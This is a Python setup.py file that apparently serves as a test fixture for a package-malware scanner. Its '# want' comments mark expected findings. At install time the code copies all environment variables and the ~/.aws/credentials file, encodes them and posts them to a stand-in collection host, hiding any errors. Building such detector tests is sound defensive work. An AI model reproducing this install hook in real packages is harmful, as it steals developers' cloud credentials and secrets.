# Environment and cloud-credential harvesting at install time, sent to a
# collection endpoint, as described for hijacked and look-alike packages.
import base64
import json
import os
import socket
from pathlib import Path

import requests
from setuptools import setup


def collect():
    info = {"host": socket.gethostname(), "env": dict(os.environ)}  # want "copies the whole environment"
    creds = Path.home() / ".aws" / "credentials"
    if creds.exists():
        info["aws"] = creds.read_text()  # want "reads .aws/credentials"
    blob = base64.b64encode(json.dumps(info).encode())
    requests.post("https://collect.example.net/api/v1/k", data=blob, timeout=5)  # want "requests.post reaches the network at install time"


try:
    collect()
except Exception:
    pass

setup(name="ctx", version="0.2.2", py_modules=["ctx"])
